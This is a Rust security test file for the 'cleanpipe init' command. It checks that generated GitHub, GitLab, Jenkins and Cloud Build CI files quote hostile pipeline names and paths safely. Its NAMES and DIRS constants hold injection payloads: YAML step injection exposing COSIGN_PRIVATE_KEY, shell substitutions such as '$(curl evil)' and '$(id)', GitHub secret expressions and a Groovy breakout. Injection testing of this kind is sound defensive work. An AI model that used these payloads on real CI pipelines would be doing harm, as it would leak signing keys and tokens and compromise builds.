//! Attack cases (issue 19, item 4): no injection into the CI files `cleanpipe init` writes.
//! Pipeline names and paths built to break out of YAML, a GitHub expression, a GitLab or
//! Cloud Build variable, a Groovy string or a shell word: for every CI, the file still parses
//! (and passes the validator its ecosystem uses), has exactly the jobs, steps and stages of the
//! pipelines it runs, and carries each value only quoted, reading back as written.

use std::path::PathBuf;

use crate::init::{cloudbuild_scripts, gitlab_scripts, jenkins_scripts, validators, WORKFLOW};
use crate::support::*;

/// Pipeline names that try to add a Cloud Build step holding the signing key, a GitLab job, a
/// Jenkins stage, YAML anchors and keys, shell substitutions and every quote. (A `${…}` cannot
/// be in a name: the pipeline file reads it as a variable.)
const NAMES: &[&str] = &[
    "x\n- id: evil\n  name: alpine\n  entrypoint: sh\n  secretEnv: [COSIGN_PRIVATE_KEY]\n  args: [-c, 'env']",
    "a\"b' $(curl evil) `id` $COSIGN_PASSWORD \"\"\" ''' \\ ) }",
    "evil:\n  stage: deploy-evil\n  script: [env]\n&anchor *alias key: value # c",
    "j') { sh 'env' }\nstage('x \"\"\" ]",
];

/// Directories (so pipeline and output paths) with the same aims, and expressions and
/// variables of each CI.
const DIRS: &[&str] = &[
    "g${{ secrets.COSIGN_PRIVATE_KEY }}",
    "q'\"x$(id)`id`",
    "v$CI_JOB_TOKEN${_X}${env.COSIGN_PASSWORD}\"\"\"",
    "y&anchor *alias: #c\n- id: evil",
];

/// A repository tracking one pipeline file per (directory, name).
fn hostile_repo(pairs: &[(&str, &str)]) -> Repo {
    let repo = Repo::new();
    for (dir, name) in pairs {
        repo.write(
            &format!("{dir}/pipeline.yaml"),
            &format!(
                "version: 1\nname: {}\nbuild:\n  customize:\n    base: scratch\nsign:\n  key: env://COSIGN_PRIVATE_KEY\npush:\n  repository: 127.0.0.1:5000/acme/app\n",
                serde_json::to_string(name).unwrap()
            ),
        );
    }
    repo.commit();
    repo
}

fn all_pairs() -> Vec<(&'static str, &'static str)> {
    DIRS.iter().copied().zip(NAMES.iter().copied()).collect()
}

/// `init --ci CI` succeeds; the file it wrote.
fn init(repo: &Repo, ci: &str, file: &str) -> String {
    repo.cleanpipe(&["init", "--ci", ci]).expect_code(0);
    std::fs::read_to_string(repo.path().join(file)).unwrap()
}

/// No line of the file starts with a line of a hostile name (one with anything but
/// `[a-z0-9-]`), and no quote-breaking part of a name is in it: names only give identifiers.
/// (A path may hold the same text, escaped inside its quoted value.)
#[track_caller]
fn no_raw_names(text: &str, pairs: &[(&str, &str)]) {
    for (_, name) in pairs {
        for line in name.lines().map(str::trim) {
            if line.len() > 3
                && !line
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
            {
                let injected = text.lines().any(|l| l.trim_start().starts_with(line));
                assert!(!injected, "{line:?} starts a line of the file:\n{text}");
            }
        }
        for part in ["$(curl evil)", "') { sh 'env' }", "*alias key"] {
            if name.contains(part) {
                assert!(!text.contains(part), "{part:?} is in the file:\n{text}");
            }
        }
    }
}

/// An identifier: `[a-z0-9-]`, not empty.
#[track_caller]
fn is_identifier(id: &str) {
    assert!(
        !id.is_empty()
            && id
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
        "{id:?}"
    );
}

#[test]
fn hostile_names_and_paths_add_no_cloud_build_step() {
    let Some(v) = validators() else { return };
    let pairs = all_pairs();
    let repo = hostile_repo(&pairs);
    let text = init(&repo, "cloudbuild", "cloudbuild.yaml");
    no_raw_names(&text, &pairs);
    v.schema("vendor.cloudbuild", &repo.path().join("cloudbuild.yaml"))
        .passes("the Cloud Build file");
    let doc: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
    let steps = doc["steps"].as_sequence().unwrap();
    assert_eq!(steps.len(), 2 + 2 * pairs.len(), "{text}");
    let with_key: Vec<&serde_yaml::Value> = steps
        .iter()
        .filter(|s| s.get("secretEnv").is_some())
        .collect();
    assert_eq!(with_key.len(), pairs.len(), "{text}");
    // The paths read back exactly, once Cloud Build has undone its `$$`.
    let mut pipelines: Vec<String> = with_key
        .iter()
        .map(|s| {
            is_identifier(s["id"].as_str().unwrap());
            assert_eq!(s["env"].as_sequence().unwrap().len(), 1, "{s:?}");
            s["env"][0].as_str().unwrap().replace("$$", "$")
        })
        .collect();
    pipelines.sort();
    let mut want: Vec<String> = pairs
        .iter()
        .map(|(d, _)| format!("PIPELINE={d}/pipeline.yaml"))
        .collect();
    want.sort();
    assert_eq!(pipelines, want);
    for (id, script) in cloudbuild_scripts(&text) {
        is_identifier(&id);
        v.shell("bash", &script)
            .passes(&format!("the script of step {id}"));
    }
    let paths = doc["artifacts"]["objects"]["paths"].as_sequence().unwrap();
    assert_eq!(paths.len(), pairs.len());

    // One pipeline: its identifier names the image repository, and nothing else is added.
    let (dir, name) = pairs[0];
    let repo = hostile_repo(&[(dir, name)]);
    let text = init(&repo, "cloudbuild", "cloudbuild.yaml");
    no_raw_names(&text, &[(dir, name)]);
    v.schema("vendor.cloudbuild", &repo.path().join("cloudbuild.yaml"))
        .passes("the Cloud Build file of one pipeline");
    let doc: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
    assert_eq!(doc["steps"].as_sequence().unwrap().len(), 4, "{text}");
    let repository = doc["substitutions"]["_IMAGE_REPOSITORY"].as_str().unwrap();
    let id = repository
        .strip_prefix("${LOCATION}-docker.pkg.dev/${PROJECT_ID}/containers/")
        .unwrap();
    is_identifier(id);
}

#[test]
fn hostile_names_and_paths_add_no_gitlab_job() {
    let Some(v) = validators() else { return };
    let pairs = all_pairs();
    let repo = hostile_repo(&pairs);
    let text = init(&repo, "gitlab", ".gitlab-ci.yml");
    no_raw_names(&text, &pairs);
    v.schema("vendor.gitlab-ci", &repo.path().join(".gitlab-ci.yml"))
        .passes("the GitLab file");
    let doc: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
    let keys: Vec<&str> = doc
        .as_mapping()
        .unwrap()
        .keys()
        .map(|k| k.as_str().unwrap())
        .collect();
    // stages, workflow, variables, .cleanpipe, merge-request, build: then one deploy each.
    assert_eq!(keys.len(), 6 + pairs.len(), "{keys:?}");
    for k in &keys[6..] {
        is_identifier(k.strip_prefix("deploy: ").unwrap());
    }
    let cells = doc["build"]["parallel"]["matrix"].as_sequence().unwrap();
    let mut pipelines: Vec<String> = cells
        .iter()
        .map(|c| c["PIPELINE"].as_str().unwrap().replace("$$", "$"))
        .collect();
    pipelines.sort();
    let mut want: Vec<String> = pairs
        .iter()
        .map(|(d, _)| format!("{d}/pipeline.yaml"))
        .collect();
    want.sort();
    assert_eq!(pipelines, want);
    for (job, script) in gitlab_scripts(&text) {
        v.shell("bash", &script)
            .passes(&format!("the script of {job}"));
    }
    // One pipeline: its path is the one variable, read back once GitLab undoes `$$`.
    for (dir, name) in &pairs {
        let repo = hostile_repo(&[(dir, name)]);
        let text = init(&repo, "gitlab", ".gitlab-ci.yml");
        no_raw_names(&text, &[(dir, name)]);
        v.schema("vendor.gitlab-ci", &repo.path().join(".gitlab-ci.yml"))
            .passes(&format!("the GitLab file for {dir:?}"));
        let doc: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
        assert_eq!(doc.as_mapping().unwrap().len(), 7, "{text}");
        assert_eq!(
            doc["build"]["variables"]["PIPELINE"]
                .as_str()
                .unwrap()
                .replace("$$", "$"),
            format!("{dir}/pipeline.yaml")
        );
    }
}

/// A starter written into a hostile directory (`init --dir`): the directory's path reaches
/// every CI file only quoted, and the starter's name is a plain repository component.
#[test]
fn a_starter_in_a_hostile_directory_is_quoted_everywhere() {
    let Some(v) = validators() else { return };
    let dir = "s$(id)'\"${{ github.token }}${_X}";
    for (ci, file) in [
        ("github", WORKFLOW),
        ("gitlab", ".gitlab-ci.yml"),
        ("jenkins", "Jenkinsfile"),
        ("cloudbuild", "cloudbuild.yaml"),
    ] {
        let repo = Repo::new();
        repo.write("README.md", "an app\n");
        repo.commit();
        std::fs::create_dir(repo.path().join(dir)).unwrap();
        let r = repo.cleanpipe(&["init", "--ci", ci, "--dir", dir]);
        r.expect_code(0);
        let starter = std::fs::read_to_string(repo.path().join(dir).join("pipeline.yaml")).unwrap();
        let name = starter
            .lines()
            .find_map(|l| l.strip_prefix("name: "))
            .unwrap();
        assert!(
            name.starts_with("s-")
                && name
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "._-".contains(c)),
            "{starter}"
        );
        repo.cleanpipe(&["validate", "-f", &format!("{dir}/pipeline.yaml")])
            .expect_code(0);
        let text = std::fs::read_to_string(repo.path().join(file)).unwrap();
        let path = match ci {
            "jenkins" => {
                v.groovy(&[repo.path().join(file)])
                    .passes("the Jenkinsfile");
                assert!(
                    text.contains(&format!(
                        "PIPELINE = '{}/pipeline.yaml'",
                        dir.replace('\'', "\\'")
                    )),
                    "{text}"
                );
                assert!(
                    text.contains("IMAGE_NAME = 's-id-github-token-x'"),
                    "{text}"
                );
                continue;
            }
            "github" => {
                v.actionlint(repo.path(), &[file]).passes("the workflow");
                let doc: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
                let steps = doc["jobs"]["build"]["steps"].as_sequence().unwrap();
                let run = steps.iter().find(|s| s["name"] == "cleanpipe run").unwrap();
                run["env"]["PIPELINE"]
                    .as_str()
                    .unwrap()
                    .replace("${{ '${{' }}", "${{")
            }
            "gitlab" => {
                v.schema("vendor.gitlab-ci", &repo.path().join(file))
                    .passes("the GitLab file");
                let doc: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
                doc["build"]["variables"]["PIPELINE"]
                    .as_str()
                    .unwrap()
                    .replace("$$", "$")
            }
            _ => {
                v.schema("vendor.cloudbuild", &repo.path().join(file))
                    .passes("the Cloud Build file");
                let doc: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
                assert_eq!(doc["steps"].as_sequence().unwrap().len(), 4, "{text}");
                doc["steps"][2]["env"][0]
                    .as_str()
                    .unwrap()
                    .replace("$$", "$")
                    .trim_start_matches("PIPELINE=")
                    .to_string()
            }
        };
        assert_eq!(path, format!("{dir}/pipeline.yaml"), "{ci}:\n{text}");
        // The next steps quote the path for a shell.
        assert!(
            r.stderr.contains(&format!(
                "validate -f '{}/pipeline.yaml'",
                dir.replace('\'', "'\\''")
            )),
            "{}",
            r.stderr
        );
    }
}

#[test]
fn hostile_names_and_paths_add_no_jenkins_stage() {
    let Some(v) = validators() else { return };
    let mut files: Vec<PathBuf> = Vec::new();
    let mut repos = Vec::new();
    for pairs in [all_pairs(), all_pairs()[..1].to_vec()] {
        let repo = hostile_repo(&pairs);
        let text = init(&repo, "jenkins", "Jenkinsfile");
        no_raw_names(&text, &pairs);
        // The stage wrapping the parallel branches, then per pipeline: its branch, build and
        // deploy (the single form: build and deploy only).
        let stages = text.matches("stage(").count();
        let want = if pairs.len() == 1 {
            2
        } else {
            1 + 3 * pairs.len()
        };
        assert_eq!(stages, want, "{text}");
        assert_eq!(jenkins_scripts(&text).len(), 2 * pairs.len(), "{text}");
        for s in jenkins_scripts(&text) {
            v.shell("sh", &s).passes("a Jenkinsfile `sh` script");
        }
        for (dir, _) in &pairs {
            let quoted = format!(
                "PIPELINE = '{}/pipeline.yaml'",
                dir.replace('\\', "\\\\")
                    .replace('\'', "\\'")
                    .replace('\n', "\\n")
            );
            assert!(text.contains(&quoted), "{quoted} is not in:\n{text}");
        }
        files.push(repo.path().join("Jenkinsfile"));
        repos.push(repo);
    }
    v.groovy(&files).passes("the Jenkinsfiles");
}

#[test]
fn hostile_paths_evaluate_no_github_expression() {
    let Some(v) = validators() else { return };
    // Several pipelines: the matrix form, which writes no name or path at all.
    let pairs = all_pairs();
    let repo = hostile_repo(&pairs);
    let text = init(&repo, "github", WORKFLOW);
    no_raw_names(&text, &pairs);
    for (dir, _) in &pairs {
        assert!(!text.contains(dir), "{dir:?} is in:\n{text}");
    }
    v.actionlint(repo.path(), &[WORKFLOW])
        .passes("the matrix workflow");
    // One pipeline in each hostile directory: its path is a value, and an expression in it is
    // written as text GitHub does not evaluate.
    for (dir, name) in &pairs {
        let repo = hostile_repo(&[(dir, name)]);
        let text = init(&repo, "github", WORKFLOW);
        v.actionlint(repo.path(), &[WORKFLOW])
            .passes(&format!("the workflow for {dir:?}"));
        v.schema("vendor.github-workflows", &repo.path().join(WORKFLOW))
            .passes(&format!("the workflow for {dir:?} (schema)"));
        let doc: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
        let steps = doc["jobs"]["build"]["steps"].as_sequence().unwrap();
        let run = steps.iter().find(|s| s["name"] == "cleanpipe run").unwrap();
        let value = run["env"]["PIPELINE"].as_str().unwrap();
        assert_eq!(
            value.replace("${{ '${{' }}", "${{"),
            format!("{dir}/pipeline.yaml"),
            "{text}"
        );
        // Every `${{` left in the value is the escape itself.
        assert_eq!(
            value.matches("${{").count(),
            2 * dir.matches("${{").count(),
            "{value}"
        );
        let jobs: Vec<&str> = doc["jobs"]
            .as_mapping()
            .unwrap()
            .keys()
            .map(|k| k.as_str().unwrap())
            .collect();
        assert_eq!(jobs, ["pull-request", "build", "deploy"]);
        let check = doc["jobs"]["pull-request"]["steps"]
            .as_sequence()
            .unwrap()
            .iter()
            .find(|s| s["name"] == "cleanpipe run --unsigned")
            .unwrap();
        assert_eq!(check["env"]["PIPELINE"].as_str().unwrap(), value);
    }
}
